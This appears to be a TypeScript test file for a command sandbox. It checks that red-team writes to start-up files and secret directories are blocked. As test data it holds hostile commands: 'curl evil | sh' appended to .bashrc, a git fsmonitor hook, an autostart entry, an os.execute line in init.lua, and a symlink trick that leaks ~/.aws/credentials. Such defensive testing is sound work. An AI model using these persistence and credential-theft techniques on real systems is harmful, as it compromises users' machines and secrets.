import { existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { expect, it } from 'vitest';
import { prepare } from '../../src/spawn.js';
import { describeSandbox, isRoot, scratchTrees, sh } from './harness.js';

/**
 * Issue 7 item 3, follow-up to the red-team bypasses: each attack is first shown to work with
 * the guard out of play (the home not among the homes in play, or secrets off), then stopped,
 * judged on the host after the command.
 */

const tree = scratchTrees();
const hostFile = (p: string) => (existsSync(p) ? readFileSync(p, 'utf8') : undefined);
const unique = () => `cordon-homes-${process.pid}-${Date.now()}-${Math.random().toString(36).slice(2)}`;

describeSandbox('start-up files by their real path, and roots around or inside start-up locations', () => {
  it('~/.bashrc -> ~/dotfiles/bashrc: a workspace of ~/dotfiles writes the rc when the home is not in play, not when it is', async () => {
    const t = tree({ 'home/dotfiles/bashrc': '# my rc\n', 'home/.bashrc': '-> home/dotfiles/bashrc', 'other/': '' });
    const attack = 'echo "curl evil | sh" >> bashrc; echo ok > notes.md; true';
    const weak = await sh(attack, { workspace: t.path('home/dotfiles'), env: { HOME: t.path('other') } });
    expect(weak.exitCode).toBe(0);
    expect(hostFile(t.path('home/.bashrc'))).toBe('# my rc\ncurl evil | sh\n');
    writeFileSync(t.path('home/dotfiles/bashrc'), '# my rc\n');
    rmSync(t.path('home/dotfiles/notes.md'));

    const r = await sh(attack, { workspace: t.path('home/dotfiles'), env: { HOME: t.path('home') } });
    expect(r.exitCode).toBe(0);
    expect(hostFile(t.path('home/.bashrc'))).toBe('# my rc\n');
    expect(hostFile(t.path('home/dotfiles/notes.md'))).toBe('ok\n'); // ordinary work goes on
  });

  it('a workspace of ~/.config: git config and autostart are planted with the home out of play, not with it; other writes land', async () => {
    const t = tree({ 'home/.config/README': 'x', 'other/': '' });
    const attack = 'mkdir -p git autostart; printf "[core]\\n\\tfsmonitor = touch /tmp/pwned\\n" > git/config; echo "[Desktop Entry]" > autostart/x.desktop; mkdir -p myapp && echo ok > myapp/settings; true';
    const weak = await sh(attack, { workspace: t.path('home/.config'), env: { HOME: t.path('other') } });
    expect(weak.exitCode).toBe(0);
    expect(hostFile(t.path('home/.config/git/config'))).toContain('fsmonitor');
    expect(hostFile(t.path('home/.config/autostart/x.desktop'))).toBeDefined();
    rmSync(t.path('home/.config/git'), { recursive: true });
    rmSync(t.path('home/.config/autostart'), { recursive: true });
    rmSync(t.path('home/.config/myapp'), { recursive: true });

    const r = await sh(attack, { workspace: t.path('home/.config'), env: { HOME: t.path('home') } });
    expect(r.exitCode).toBe(0);
    expect(existsSync(t.path('home/.config/git/config'))).toBe(false);
    expect(existsSync(t.path('home/.config/autostart/x.desktop'))).toBe(false);
    expect(hostFile(t.path('home/.config/myapp/settings'))).toBe('ok\n');
  });

  it('a workspace inside a start-up location (~/.config/nvim) is written with the home out of play, refused with it (allowHome or not)', async () => {
    const t = tree({ 'home/.config/nvim/init.lua': '-- mine\n', 'other/': '' });
    const attack = 'echo "os.execute(\'evil\')" >> init.lua';
    const weak = await sh(attack, { workspace: t.path('home/.config/nvim'), env: { HOME: t.path('other') } });
    expect(weak.exitCode).toBe(0);
    expect(hostFile(t.path('home/.config/nvim/init.lua'))).toContain('evil');
    writeFileSync(t.path('home/.config/nvim/init.lua'), '-- mine\n');
    for (const allowHome of [false, true]) {
      await expect(sh(attack, { workspace: t.path('home/.config/nvim'), env: { HOME: t.path('home') }, policy: { write: { allowHome } } })).rejects.toMatchObject({
        code: 'ERR_CORDON_POLICY_TOO_BROAD',
        message: expect.stringMatching(/start-up location/),
      });
    }
    expect(hostFile(t.path('home/.config/nvim/init.lua'))).toBe('-- mine\n');
  });

  it('with allowHome, a start-up symlink in the writable home is replaced when the home is out of play, refused when in play', async () => {
    const t = tree({ 'home/dotfiles/bashrc': '# my rc\n', 'home/.bashrc': '-> home/dotfiles/bashrc', 'other/': '' });
    const attack = 'rm -f .bashrc && echo evil > .bashrc';
    const policy = { write: { allowHome: true } };
    const weak = await sh(attack, { workspace: t.path('home'), env: { HOME: t.path('other') }, policy });
    expect(weak.exitCode).toBe(0);
    expect(hostFile(t.path('home/.bashrc'))).toBe('evil\n');
    rmSync(t.path('home/.bashrc'));
    await sh('ln -s dotfiles/bashrc .bashrc', { workspace: t.path('home'), env: { HOME: t.path('other') }, policy });
    expect(lstatSync(t.path('home/.bashrc')).isSymbolicLink()).toBe(true);

    await expect(sh(attack, { workspace: t.path('home'), env: { HOME: t.path('home') }, policy })).rejects.toMatchObject({ code: 'ERR_CORDON_POLICY_TOO_BROAD' });
    expect(lstatSync(t.path('home/.bashrc')).isSymbolicLink()).toBe(true);
    expect(hostFile(t.path('home/.bashrc'))).toBe('# my rc\n');
  });
});

describeSandbox('item 4: a missing secret directory in a writable home', () => {
  // The command plants ~/.aws/credentials -> ~/notes.txt; the user later runs `aws configure`
  // (simulated on the host), which writes the key through the link; the next command reads it.
  const plant = 'mkdir -p .aws && ln -s "$HOME/notes.txt" .aws/credentials; true';
  const userConfiguresAws = (home: string) => {
    mkdirSync(path.join(home, '.aws'), { recursive: true });
    writeFileSync(path.join(home, '.aws/credentials'), '[default]\naws_secret_access_key = AWS-SECRET-MARKER-42\n');
  };

  it('reproduces first with secrets off for the planting command, then the directory is uncreatable and the key stays hidden', async () => {
    const t = tree({ 'home/notes.txt': 'notes\n' });
    const home = t.path('home');
    const opts = { workspace: home, env: { HOME: home }, policy: { write: { allowHome: true } } };
    await sh(plant, { ...opts, policy: { write: { allowHome: true }, read: { defaultSecrets: false } } });
    expect(lstatSync(t.path('home/.aws/credentials')).isSymbolicLink()).toBe(true);
    userConfiguresAws(home);
    const leaked = await sh('cat notes.txt', opts);
    expect(leaked.stdout).toContain('AWS-SECRET-MARKER-42');

    rmSync(t.path('home/.aws'), { recursive: true });
    writeFileSync(t.path('home/notes.txt'), 'notes\n');
    const r = await sh(`${plant}; ls -la .aws 2>&1; echo done`, opts);
    expect(r.stdout).toContain('done');
    // On the host: no link was left behind, at most the empty placeholder (removed once the command ended).
    expect(existsSync(t.path('home/.aws')) ? readdirSync(t.path('home/.aws')) : []).toEqual([]);
    userConfiguresAws(home);
    const after = await sh('cat notes.txt ~/.aws/credentials 2>/dev/null; true', opts);
    expect(after.stdout).not.toContain('AWS-SECRET-MARKER-42');
    expect(hostFile(t.path('home/notes.txt'))).toBe('notes\n');
  });
});

describeSandbox('system trees and other users\' homes (root only; plan-only where a real home is involved)', () => {
  it.skipIf(!isRoot)('a workspace under /var/lib, /run or exactly /mnt is refused and nothing runs (skipped: not root)', async () => {
    const dirs = [`/var/lib/${unique()}`, `/run/${unique()}`];
    try {
      for (const dir of dirs) {
        mkdirSync(dir);
        await expect(sh('echo x > marker', { workspace: dir })).rejects.toMatchObject({ code: 'ERR_CORDON_POLICY_TOO_BROAD' });
        expect(existsSync(`${dir}/marker`)).toBe(false);
      }
      expect(() => prepare('true', [], { workspace: '/mnt' })).toThrow(/system directory/);
    } finally {
      for (const dir of dirs) rmSync(dir, { recursive: true, force: true });
    }
  });

  it.skipIf(!isRoot || !existsSync('/mnt'))('a project below /mnt is an ordinary workspace (skipped: not root, or no /mnt)', async () => {
    const dir = `/mnt/${unique()}`;
    try {
      mkdirSync(`${dir}/project`, { recursive: true });
      const r = await sh('echo ok > out.txt', { workspace: `${dir}/project` });
      expect(r.exitCode).toBe(0);
      expect(hostFile(`${dir}/project/out.txt`)).toBe('ok\n');
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
